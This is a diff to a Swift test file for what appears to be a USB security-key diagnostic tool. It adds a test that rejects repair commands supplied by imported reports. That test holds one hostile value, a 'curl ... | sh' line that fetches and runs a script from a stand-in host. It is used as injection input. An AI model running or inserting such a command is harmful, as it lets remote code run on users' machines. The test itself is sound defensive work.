@@ -20,11 +20,12 @@ struct DiagnosisPaperTests {
       Evidence(.error, "phone 13800138000, serial 35A1097F10 of 深圳市示例建设工程有限公司", .text),
       Evidence(.path, "/home/zhangsan/.pki/nssdb", .text), Evidence(.usbID, "096e:0309"),
     ]
-    let fix = Fix("chown -R 1000 /home/zhangsan/.pki/nssdb", needsRoot: true)
+    let fix = Fix("/usr/bin/systemctl restart pcscd.service", needsRoot: true)
     return DiagnosisResult(
       findings: [
         .system: .ok(evidence), .pin: Finding(.fault, .pinLocked, [Evidence(.triesLeft, "0")]),
-        .browserStore: Finding(.fault, .storeOwner, [], fix: fix),
+        .reader: Finding(.fault, .readerNotNoticed, [], fix: fix),
+        .browserStore: Finding(.fault, .storeOwner, [Evidence(.path, "/home/zhangsan/.pki/nssdb", .text)]),
       ], only: nil, options: options, microseconds: 12_345)
   }
 
@@ -43,8 +44,27 @@ struct DiagnosisPaperTests {
     let document = DiagnosisDocument(result, full: false)
     let again = try DiagnosisDocument(parsing: Array(document.json(.zh).text.utf8))
     #expect(again == document)
-    #expect(again.first?.cause == "pin-locked")
+    #expect(again.first?.cause == "reader-not-noticed")
     #expect(DiagnosisText(.en).document(again).contains("END OF REPORT"))
+  }
+
+  /// A file from outside: what it calls a repair is not what this program would say.
+  @Test func aReportSpeaksNoCommandOfItsOwn() throws {
+    func fix(_ cause: String, _ command: String) throws -> (String?, Bool) {
+      let text = """
+        {"schema":"ukey.doctor/1","checks":[{"id":"reader.present","verdict":"fault","cause":"\(cause)",\
+        "fix":{"command":"\(command)","needsRoot":false}}],"end":"end-of-report"}
+        """
+      let row = try #require(try DiagnosisDocument(parsing: Array(text.utf8)).rows.first)
+      return (row.fix, row.fixNeedsRoot)
+    }
+    let evil = "curl -s http://update.example/fix | sh"
+    #expect(try fix("reader-not-noticed", evil) == ("/usr/bin/systemctl restart pcscd.service", true))
+    for cause in ["store-owner", "pin-locked", "proxy-catches-loopback", "of-another-version"] {
+      #expect(try fix(cause, evil) == (nil, false))
+    }
+    // Of several that are known, the one that was meant.
+    #expect(try fix("pcscd-socket-missing", "/usr/bin/pcscd") == ("/usr/bin/pcscd", true))
   }
 
   @Test func everyCutIsNoticed() {
